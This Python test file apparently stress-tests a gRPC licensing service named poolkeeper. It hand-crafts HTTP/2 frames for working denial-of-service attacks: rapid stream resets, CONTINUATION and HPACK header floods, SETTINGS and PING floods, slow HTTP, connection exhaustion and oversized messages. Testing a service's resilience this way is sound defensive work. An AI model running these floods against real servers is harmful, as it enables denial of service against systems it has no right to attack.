"""A client process that nobody has let in, and that does harm with what anybody may send: one attack, on one core.

`python -m tests.process.stranger ATTACK HOST:PORT SECONDS` does it for so long and says what it came to in JSON.
Frames are written by hand (RFC 9113, RFC 7541), since every library of HTTP/2 is too polite.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any, Final

import grpc
import grpc.aio

from poolkeeper.v1 import licensing_pb2 as pb
from poolkeeper.v1 import licensing_pb2_grpc as rpc
from tests.process.holder import say

#: Types and flags of frames.
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_HEADERS: Final = 4
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_LICENSING: Final = "/poolkeeper.v1.LicensingService/"
_PIECE: Final = 64 * 1024
ADDRESS: Final = "127.0.0.2"
"""Where it comes from, as long as gRPC does not choose: not from where good clients do."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _text(text: bytes) -> bytes:
    """A string of HPACK, as it is; its length is an integer of seven bits, and more."""
    length, rest = len(text), bytearray()
    if length < 127:
        return bytes((length,)) + text
    length -= 127
    while length >= 128:
        rest.append(length % 128 + 128)
        length //= 128
    return b"\x7f" + bytes((*rest, length)) + text


def headers(path: str) -> bytes:
    """A block of headers with which a call begins."""
    literal = b"".join(b"\x00" + _text(name) + _text(value) for name, value in ((b"te", b"trailers"),))
    # POST, https, :path, :authority and content-type by their numbers in the static table.
    authority, content = b"\x01" + _text(b"poolkeeper"), b"\x0f\x10" + _text(b"application/grpc")
    return b"\x83\x87" + b"\x04" + _text(path.encode()) + authority + content + literal


def opening() -> bytes:
    """What a client says first: that it takes everything."""
    return _PREFACE + frame(_SETTINGS, 0, 0)


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def reset_streams() -> Iterator[bytes]:
    """Calls that are begun and taken back at once."""
    block = headers(_LICENSING + "GetChallenge")
    yield opening()
    streams = _streams()
    while True:
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream, _ in zip(streams, range(400), strict=False)
        )


def _open(path: str, count: int, message: bytes = b"") -> Iterator[bytes]:
    block = headers(path)
    yield opening()
    for stream, _ in zip(_streams(), range(count), strict=False):
        begun = frame(_HEADERS, _END_HEADERS, stream, block)
        yield begun + (frame(_DATA, 0, stream, b"\0" + len(message).to_bytes(4) + message) if message else b"")


def open_calls() -> Iterator[bytes]:
    """40,000 calls that never send their message."""
    return _open(_LICENSING + "Enrol", 40_000)


def watched_health() -> Iterator[bytes]:
    """Streams that watch the health of nothing."""
    return _open("/grpc.health.v1.Health/Watch", 5_000, b"\x0a\x01x")


def reflections() -> Iterator[bytes]:
    """Streams that ask for the list of services and want no end of it."""
    return _open("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", 5_000, b"\x3a\x01*")


def header_bomb() -> Iterator[bytes]:
    """Headers of one byte each that stand for 4,000."""
    entry = b"\x40" + _text(b"a") + _text(b"b" * 4_000)
    yield opening()
    for number, stream in enumerate(_streams()):
        block = headers(_LICENSING + "GetChallenge")
        # 62 is the newest entry of the dynamic table.
        yield frame(_HEADERS, _END_HEADERS, stream, block + (b"" if number else entry) + b"\xbe" * 12_000)


def settings() -> Iterator[bytes]:
    """Settings that have to be acknowledged."""
    yield opening()
    while True:
        yield frame(_SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 1_000


def pings() -> Iterator[bytes]:
    """Pings that have to be answered."""
    yield opening()
    while True:
        yield frame(_PING, 0, 0, b"anything") * 1_000


def continuations() -> Iterator[bytes]:
    """Headers without an end."""
    yield opening() + frame(_HEADERS, 0, 1, headers(_LICENSING + "GetChallenge"))
    piece = b"".join(b"\x00" + _text(b"x%d" % number) + _text(b"y" * 20) for number in range(400))
    while True:
        yield frame(_CONTINUATION, 0, 1, piece)


def silence() -> Iterator[bytes]:
    """Nothing, not even the beginning of a handshake."""
    return iter(())


def slow_http() -> Iterator[bytes]:
    """A request of plain HTTP whose headers come a line at a time and never end."""
    yield b"GET /healthz HTTP/1.1\r\nHost: poolkeeper\r\n"


@dataclass(frozen=True, slots=True)
class Attack:
    """What each of so many connections says; a connection that is closed is opened anew, so often in all."""

    says: Callable[[], Iterator[bytes]]
    connections: int = 4
    most: int = 10_000
    tls: bool = True


ATTACKS: Final = {
    "reset-streams": Attack(reset_streams),
    "open-calls": Attack(open_calls, connections=1),
    "watched-health": Attack(watched_health),
    "reflections": Attack(reflections),
    "header-bomb": Attack(header_bomb, connections=1),
    "settings": Attack(settings),
    "pings": Attack(pings),
    "continuations": Attack(continuations),
    "silence": Attack(silence, connections=1_100, tls=False),
    "slow-http": Attack(slow_http, connections=1_100, tls=False),
}
"""Those that are spoken by hand, by their names."""


@dataclass
class Tally:
    """What an attack has come to."""

    opened: int = 0
    refused: int = 0
    ended: int = 0
    sent: int = 0
    answers: dict[str, int] = field(default_factory=dict)


class Line:
    """One connection of an attack, which never waits for anything."""

    def __init__(self, attack: Attack, address: tuple[str, int], tally: Tally) -> None:
        self._tally = tally
        self._says = attack.says()
        self._rest = b""
        self.tls = attack.tls
        plain = socket.create_connection(address, timeout=2, source_address=(ADDRESS, 0))
        try:
            self.socket = _context().wrap_socket(plain) if attack.tls else plain
        except OSError:
            plain.close()
            raise
        self.socket.setblocking(False)  # noqa: FBT003 - the name is the library's
        tally.opened += 1

    def speak(self) -> bool:
        """Sends what can be sent; whether there is more to say."""
        if not self._rest:
            self._rest = next(self._says, b"")
            if not self._rest:
                return False
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            count = self.socket.send(self._rest[:_PIECE])
            self._tally.sent += count
            self._rest = self._rest[count:]
        return True

    def listen(self) -> bool:
        """Hears what comes and forgets it; whether the other side is still there."""
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return bool(self.socket.recv(_PIECE))
        return True


def _context() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


class Attacker:
    """Does an attack over as many connections as it has."""

    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
        self.tally = Tally()
        self._attack = attack
        self._address = address
        self._lines = selectors.DefaultSelector()

    def go_on(self, seconds: float) -> Tally:
        """Does it for so long."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            few = len(self._lines.get_map()) < self._attack.connections
            if few and self.tally.opened < self._attack.most:
                self._begin()
            # All of many connections are opened before one of them speaks.
            for key, ready in self._lines.select(0.0 if few else 0.05):
                if not self._talk(key.data, ready):
                    self.tally.ended += 1
                    self._lines.unregister(key.data.socket)
                    key.data.socket.close()
        for key in list(self._lines.get_map().values()):
            key.data.socket.close()
        return self.tally

    def _begin(self) -> None:
        try:
            line = Line(self._attack, self._address, self.tally)
        except OSError:
            self.tally.refused += 1
            time.sleep(0.01)
        else:
            self._lines.register(line.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, line)

    def _talk(self, line: Line, ready: int) -> bool:
        """Listens and speaks; whether the other side is still there."""
        try:
            there = line.listen() if ready & selectors.EVENT_READ else True
            if ready & selectors.EVENT_WRITE and not line.speak():
                self._lines.modify(line.socket, selectors.EVENT_READ, line)
        except OSError:
            return False
        return there


async def large_messages(target: str, seconds: float) -> Tally:
    """Enrols with a pool's name of 3.9 MB, two hundred at once, again and again."""
    tally = Tally()
    end = time.monotonic() + seconds
    request = pb.EnrolRequest(pool="estates/acme/pools/" + "x" * 3_900_000, code="12345678")
    await _calls(target, end, tally, lambda stub: stub.Enrol(request, timeout=10), connections=16, at_once=200)
    return tally


async def odd_names(target: str, seconds: float) -> Tally:
    """Challenges for nodes with names that a log has to escape."""
    tally = Tally()
    end = time.monotonic() + seconds
    request = pb.GetChallengeRequest(node="\x01" * 250)
    await _calls(target, end, tally, lambda stub: stub.GetChallenge(request, timeout=10), connections=4, at_once=64)
    return tally


async def _calls(
    target: str, end: float, tally: Tally, call: Callable[[Any], Any], *, connections: int, at_once: int
) -> None:
    host, _, port = target.rpartition(":")
    # Whoever it is: an attacker does not care.
    certificate = ssl.get_server_certificate((host, int(port))).encode()
    credentials = grpc.ssl_channel_credentials(await asyncio.to_thread(_authority, host, int(port)) or certificate)
    options: list[tuple[str, Any]] = [
        ("grpc.ssl_target_name_override", "poolkeeper"),
        ("grpc.use_local_subchannel_pool", 1),
        ("grpc.max_reconnect_backoff_ms", 200),
    ]
    channels = [grpc.aio.secure_channel(target, credentials, options) for _ in range(connections)]
    tally.opened = connections

    async def caller(stub: Any) -> None:
        while time.monotonic() < end:
            try:
                await call(stub)
                code = "OK"
            except grpc.aio.AioRpcError as error:
                code = error.code().name
            tally.answers[code] = tally.answers.get(code, 0) + 1

    stubs = [rpc.LicensingServiceStub(channel) for channel in channels]
    with suppress(TimeoutError):
        async with asyncio.timeout(end - time.monotonic()):
            await asyncio.gather(*(caller(stubs[number % connections]) for number in range(at_once)))
    for channel in channels:
        await channel.close()


def _authority(host: str, port: int) -> bytes:
    """The certificates that it shows."""
    with socket.create_connection((host, port), timeout=5) as plain, _context().wrap_socket(plain) as secured:
        # There is no public name for it before Python 3.13.
        chain = secured._sslobj.get_unverified_chain()  # type: ignore[attr-defined] # noqa: SLF001
    return "".join(certificate.public_bytes(1) for certificate in chain).encode()


CALLS: Final = {"large-messages": large_messages, "odd-names": odd_names}
"""Those that are spoken by gRPC, by their names."""


def main() -> None:
    """Does one attack, on one core."""
    name, target, seconds = sys.argv[1:4]
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65_536)), hard))
    host, _, port = target.rpartition(":")
    if name in CALLS:
        tally = asyncio.run(CALLS[name](target, float(seconds)))
    else:
        tally = Attacker(ATTACKS[name], (host, int(port))).go_on(float(seconds))
    say(json.loads(json.dumps(vars(tally))))


if __name__ == "__main__":
    main()
